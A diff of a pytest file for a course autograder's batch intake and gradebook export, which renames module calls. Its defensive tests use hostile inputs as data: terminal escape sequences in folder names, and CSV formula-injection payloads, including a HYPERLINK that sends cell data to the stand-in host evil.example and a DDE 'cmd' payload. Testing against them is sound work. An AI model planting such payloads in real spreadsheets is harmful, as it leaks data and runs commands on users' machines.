@@ -18,7 +18,8 @@ import pytest
 from grader.errors import UsageError
 from grader.exercise import load
 from grader.results import validate
-from grader.staff import batch, gradescope
+from grader.staff import gradescope
+from grader.staff.batch import intake, record
 
 ROOT = Path(__file__).resolve().parent.parent
 LEVEL2 = ROOT / "exercises" / "level2"
@@ -113,7 +114,7 @@ def test_a_member_that_cannot_be_unpacked_costs_only_its_student(tmp_path):
     raw = bytearray(archive.read_bytes())
     raw[raw.index(damaged) + len(damaged) - 1] ^= 0xFF
     archive.write_bytes(bytes(raw))
-    entries = {e.student: e for e in batch.collect(archive, tmp_path / "scratch")}
+    entries = {e.student: e for e in intake.collect(archive, tmp_path / "scratch")}
     assert sorted(entries) == ["submission_1", "submission_2", "submission_3", "submission_4"]
     assert entries["submission_1"].source is not None
     for student, words in (("submission_2", "x/kernel.cu"), ("submission_3", "file name too long"),
@@ -131,7 +132,7 @@ def test_a_member_nested_too_deeply_to_unpack_costs_only_its_student(tmp_path):
     with zipfile.ZipFile(archive, "w") as zf:
         zf.writestr("submission_1/" + "a/" * 1200 + "kernel.cu", "// deep\n")
         zf.writestr("submission_2/kernel.cu", "// fine\n")
-    entries = {e.student: e for e in batch.collect(archive, tmp_path / "scratch")}
+    entries = {e.student: e for e in intake.collect(archive, tmp_path / "scratch")}
     assert sorted(entries) == ["submission_1", "submission_2"]
     assert entries["submission_2"].source is not None
     assert entries["submission_1"].source is None and "nested too deeply" in entries["submission_1"].problem
@@ -147,7 +148,7 @@ def test_a_zip_that_cannot_be_read_is_a_usage_error(tmp_path):
     archive.write_bytes(bytes(raw))
     assert zipfile.is_zipfile(archive)
     with pytest.raises(UsageError, match="not a zip that can be read"):
-        batch.collect(archive, tmp_path / "scratch")
+        intake.collect(archive, tmp_path / "scratch")
 
 
 # --------------------------------------------------------------------------------------------- grade batch: names
@@ -159,14 +160,14 @@ def test_file_names_in_a_students_folder_are_shown_printable(tmp_path):
         (subs / student).mkdir(parents=True)
         for name in names:
             (subs / student / name).write_text("// x\n")
-    entries = {e.student: e for e in batch.collect(subs, tmp_path / "scratch")}
+    entries = {e.student: e for e in intake.collect(subs, tmp_path / "scratch")}
     assert "exactly one" in entries["ann"].problem and "No .cu file" in entries["ben"].problem
     assert not has_control(entries["ann"].problem) and not has_control(entries["ben"].problem)
 
 
 def test_an_ungraded_students_results_show_their_folder_name_printable(tmp_path):
-    entry = batch.Entry("x", "evil\x1b[31m\nname", None, "No .cu file or notebook was submitted (found: nothing).")
-    document = batch.unsubmitted(SimpleNamespace(exercise=load(LEVEL2)), entry).document
+    entry = intake.Entry("x", "evil\x1b[31m\nname", None, "No .cu file or notebook was submitted (found: nothing).")
+    document = record.unsubmitted(SimpleNamespace(exercise=load(LEVEL2)), entry).document
     validate(document)
     assert not has_control(document["extra_data"]["submission"])
     assert document["extra_data"]["submission"] == "evil?[31m?name"
@@ -176,9 +177,9 @@ def test_gradebook_cells_never_start_a_formula(tmp_path):
     # Submitters' names come from Gradescope's export, and a student chooses their own name.
     names = ['=HYPERLINK("http://evil.example/?"&A3,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              "\t=1+1", "Ada Lovelace <ada@example.edu> 77"]
-    rows = [batch.Row(f"s{i}", "graded", 10.0, {"Compiles": 10.0}, {"Compiles": 10.0}, 10.0, (), (name,))
+    rows = [record.Row(f"s{i}", "graded", 10.0, {"Compiles": 10.0}, {"Compiles": 10.0}, 10.0, (), (name,))
             for i, name in enumerate(names)]
-    path = batch.write_csv(tmp_path / "grades.csv", rows)
+    path = record.write_csv(tmp_path / "grades.csv", rows)
     table = list(csv.reader(io.StringIO(path.read_text())))
     cells = [row[table[0].index("submitters")] for row in table[2:]]
     assert cells[:-1] == ["'" + name for name in names[:-1]]
@@ -192,7 +193,7 @@ def test_a_huge_file_in_the_input_is_hashed_without_reading_it_whole(tmp_path):
         f.truncate(64 * 1024 * 1024)  # sparse: no disk used
     tracemalloc.start()
     try:
-        digest = batch._file_hash(huge)
+        digest = intake.file_hash(huge)
         _, peak = tracemalloc.get_traced_memory()
     finally:
         tracemalloc.stop()
@@ -202,7 +203,7 @@ def test_a_huge_file_in_the_input_is_hashed_without_reading_it_whole(tmp_path):
 
 def test_a_file_that_cannot_be_read_is_fingerprinted_not_raised(tmp_path):
     # Gone between the listing and the hashing, or not readable: its grading says it cannot be read.
-    assert batch._file_hash(tmp_path / "gone.cu") != batch._file_hash(tmp_path)
+    assert intake.file_hash(tmp_path / "gone.cu") != intake.file_hash(tmp_path)
 
 
 def test_a_name_of_blanks_in_gradescope_metadata_is_read_in_moments(tmp_path):
@@ -212,6 +213,6 @@ def test_a_name_of_blanks_in_gradescope_metadata_is_read_in_moments(tmp_path):
     name = "Ada" + " " * 50_000 + "Lovelace"  # a student's own name, as Gradescope writes it out
     (root / "submission_metadata.yml").write_text(f"submission_1:\n  :submitters:\n  - :name: {name}   \n    :sid: '7'\n")
     started = time.perf_counter()
-    entries = batch.collect(root, tmp_path / "scratch")
+    entries = intake.collect(root, tmp_path / "scratch")
     assert time.perf_counter() - started < 2
     assert entries[0].submitters == (f"{name} 7",)
